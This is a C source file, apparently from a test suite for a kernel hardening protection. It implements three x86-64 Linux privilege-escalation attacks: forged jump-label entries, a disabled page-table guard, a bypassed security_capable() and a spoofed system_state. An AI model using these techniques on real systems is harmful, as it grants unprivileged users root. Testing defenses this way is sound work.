// SPDX-License-Identifier: GPL-2.0-only
/*
 * Jump labels are patched by their entries, which are read-only, and the section looks
 * at nothing else. Three ways past that.
 *
 * The entry may be one of the protection's own: who patches waits for a mutex that is made
 * to look held, and its entry is changed to that of a guard. Which way it goes is an
 * argument. Behind it the guard is off, and a forged entry is believed.
 *
 * Or to one of security_capable()'s, which asks nobody then: everybody is capable of all.
 *
 * Or the kernel is told that it still boots. Then it takes the way on which jumps are made
 * as ftrace and kprobes have theirs made: on the stack, and nobody asks whose they are.
 */
#include <stdio.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"
#include "patching.h"

#ifdef __x86_64__
#define ENTRY_SIZE	sizeof(struct jump_entry)
#define ENTRY_FLAGS	3UL
#define GUARD_KEY	"kpkeys_pgtables_key"
#define ACTIVE_KEY	"security_hook_active_capable_0"
#define CAPABLE		"security_capable"
#define CAPABLE_LENGTH	0x100
#define ASKED		"arch_jump_label_transform_queue"
#define ASKED_LENGTH	0x80
#define EARLY		"jump_label_transform.constprop.0"
#define EARLY_LENGTH	0x60
#define STATE		"system_state"
#define SYSTEM_BOOTING	0

static struct {
	uint64_t own, guard, forged, code, target, key, state;
	uint64_t to;			/* what the entry is changed to */
	unsigned int running;
} jump;

/* One of a key's entries with its place in this function, by the kernel's own table. */
static uint64_t find_entry(const char *name, const char *function, size_t length)
{
	uint64_t at = ksymbol("__start___jump_table"), stop = ksymbol("__stop___jump_table");
	uint64_t key = ksymbol(name), from = ksymbol(function);
	struct jump_entry entries[256];
	size_t i, nr;

	for (; at && key && from && at < stop; at += nr * ENTRY_SIZE) {
		nr = (stop - at) / ENTRY_SIZE;
		if (nr > 256)
			nr = 256;
		if (kread(at, entries, nr * ENTRY_SIZE))
			return 0;
		for (i = 0; i < nr; i++)
			if (at + i * ENTRY_SIZE + 8 + (entries[i].key & ~ENTRY_FLAGS) == key &&
			    at + i * ENTRY_SIZE + entries[i].code - from < length)
				return at + i * ENTRY_SIZE;
	}
	return 0;
}

static bool change_entry(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	bool changed = held_replace(addr, words, jump.own, jump.to);

	(void)change;
	if (changed && jump.running)
		kwrite(jump.state, &jump.running, sizeof(jump.running));
	return changed;
}

static bool turn(uint64_t to, const struct held_change *way)
{
	const struct held_lock lock = held_mutex();
	bool changed;

	jump.to = to;
	changed = held_act(&lock, way);
	held_settle();
	return changed;
}

static bool prepare(void)
{
	jump.key = ksymbol(KEY);
	jump.own = patched_entry();
	jump.code = find_code();
	jump.target = find_target();
	jump.forged = room_near_text();
	jump.running = 0;
	if (!jump.key || kread64(jump.key) || !jump.code || !jump.target || !jump.forged)
		return false;
	return !write_entry(jump.forged, jump.code, jump.target, jump.key);
}

static enum outcome become_root(const char *how)
{
	if (!is_jump(jump.code))
		return lost("the kernel patched its own places only");
	if (!is_root_for_the_asking())
		return lost("the text was patched, and setuid(0) refused");
	return won("%s: setuid(0) by uid=%d is let through", how, getuid());
}

/*
 * The place of the key's own that is left out each time stays a jump: where the key goes
 * off the guard is switched in its stead, and where it goes on our entry is.
 */
enum outcome jump_guard(void)
{
	const struct held_change way = { ASKED, ASKED_LENGTH, change_entry, held_is_never_over, NULL };
	bool guarded = is_protected();
	enum outcome outcome;
	char how[128];

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	held_start(switch_over);
	jump.guard = guarded ? find_entry(GUARD_KEY, ASKED, ASKED_LENGTH) : 0;
	if (!prepare() || (guarded && !jump.guard))
		return broken("no static key, no room, no guard, or no place that can be patched");
	if (guarded) {
		held_ask();
		held_settle();
		if (!is_jump(entry_code(jump.guard)))
			return broken("the guard is off already");
		if (!turn(jump.guard, &way))
			return broken("nobody waited with the entry (off)");
		if (is_jump(entry_code(jump.guard)))
			return lost("the guard is still on");
	}
	snprintf(how, sizeof(how), "the guard at 0x%lx is off, and a forged entry was believed",
		 guarded ? entry_code(jump.guard) : 0);
	if (!turn(jump.forged, &way))
		return broken("nobody waited with the entry (on)");
	outcome = become_root(how);
	if (is_jump(jump.code))
		turn(jump.forged, &way);
	else
		held_ask();
	held_settle();
	if (guarded) {
		turn(jump.guard, &way);
		held_ask();
		held_settle();
	}
	held_stop();
	clear_entry(jump.forged);
	return outcome;
}

/* Who calls it may do nothing of the kind. */
static enum outcome judge_capable(uint64_t entry)
{
	static const char name[] = "portcullis-lsm-label";

	if (is_jump(entry_code(entry)))
		return lost("security_capable() still asks");
	if (sethostname(name, sizeof(name) - 1))
		return lost("security_capable() asks nobody, and sethostname() is refused");
	return won("security_capable() asks nobody any more: sethostname() by uid=%d is let through",
		   getuid());
}

enum outcome lsm_label(void)
{
	const struct held_change way = { ASKED, ASKED_LENGTH, change_entry, held_is_never_over, NULL };
	uint64_t entry = find_entry(ACTIVE_KEY, CAPABLE, CAPABLE_LENGTH);
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	held_start(switch_over);
	if (!prepare() || !entry || !is_jump(entry_code(entry)))
		return broken("no static key, or none of security_capable()'s that is on");
	held_ask();
	held_settle();
	if (!turn(entry, &way))
		return broken("nobody waited with the entry");
	outcome = judge_capable(entry);
	/* The next way that is asked for is the other one. */
	if (outcome == WON)
		turn(entry, &way);
	held_stop();
	clear_entry(jump.forged);
	return outcome;
}

/* Back to what it was as soon as somebody waits with the entry, behind the first question. */
static bool turn_early(const struct held_change *way)
{
	unsigned int booting = SYSTEM_BOOTING;
	bool changed;

	kread(jump.state, &jump.running, sizeof(jump.running));
	kwrite(jump.state, &booting, sizeof(booting));
	changed = turn(jump.forged, way);
	kwrite(jump.state, &jump.running, sizeof(jump.running));
	return changed;
}

enum outcome jump_booting(void)
{
	const struct held_change way = { EARLY, EARLY_LENGTH, change_entry, held_is_never_over, NULL };
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	held_start(switch_over);
	jump.state = ksymbol(STATE);
	if (!prepare() || !jump.state || !ksymbol(EARLY))
		return broken("no static key, no room, or no place that can be patched");
	if (!turn_early(&way))
		return broken("nobody waited with the entry");
	outcome = become_root("told that it boots, the kernel believed a forged entry");
	if (is_jump(jump.code))
		turn_early(&way);
	else
		held_ask();
	held_settle();
	held_stop();
	clear_entry(jump.forged);
	return outcome;
}
#else
enum outcome jump_guard(void)
{
	return skipped("x86-64 only");
}

enum outcome lsm_label(void)
{
	return skipped("x86-64 only");
}

enum outcome jump_booting(void)
{
	return skipped("x86-64 only");
}
#endif
